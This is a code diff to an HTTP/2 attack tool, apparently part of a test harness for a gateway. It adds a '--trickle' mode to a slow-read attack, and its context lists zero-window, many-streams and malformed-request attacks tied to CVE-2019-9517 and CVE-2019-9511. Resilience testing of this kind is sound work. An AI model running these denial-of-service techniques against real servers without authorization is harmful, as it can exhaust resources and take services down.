@@ -31,7 +31,8 @@ Attacks:
                      WINDOW_UPDATE (--dribble B: B bytes per stream every 200 ms); watches for --hold seconds
                      (CVE-2019-9517, CVE-2019-9511)
   slow-read          all windows open, GET --path, then the socket is not read for --hold seconds (prints
-                     "local PORT" first, so the caller can watch the connection)
+                     "local PORT" first, so the caller can watch the connection); --trickle B: B bytes are
+                     read every 200 ms instead
   many-streams       --count N: N requests without END_STREAM before reading anything (over max concurrent);
                      --ack-first: after acknowledging the server's SETTINGS
   malformed          --case NAME[,NAME...]: per case, on a new connection, one malformed request (see MALFORMED)
@@ -435,6 +436,17 @@ def slow_read(c, args):
            + headers_frame(1, request_fields(args.authority, args.path)))
     # The caller watches the gateway's side of this connection meanwhile.
     print("local", c.sock.getsockname()[1], flush=True)
+    if args.trickle:
+        # A slow but live reader: --trickle bytes every 200 ms (raw bytes, not parsed: counted in bytesReceived).
+        deadline = time.monotonic() + args.hold
+        while time.monotonic() < deadline:
+            time.sleep(0.2)
+            try:
+                c.result["bytesReceived"] += len(c.sock.recv(args.trickle))
+            except (BlockingIOError, ssl.SSLWantReadError):
+                pass
+        c.finish("slow-read", {"trickled": True})
+        return
     time.sleep(args.hold)  # the attack itself: a client that does not read
     c.pump(10, until=lambda: c.result["closed"])
     c.finish("slow-read")
@@ -567,6 +579,7 @@ def main():
     parser.add_argument("--ack-first", action="store_true", help="many-streams: acknowledge SETTINGS first")
     parser.add_argument("--no-read", action="store_true")
     parser.add_argument("--hold", type=float, default=3.0)
+    parser.add_argument("--trickle", type=int, default=0, help="slow-read: read this many bytes every 200 ms")
     parser.add_argument("--dribble", type=int, default=0, help="zero-window: window bytes per stream every 200 ms")
     args = parser.parse_args()
     if args.attack == "malformed" and not args.case:
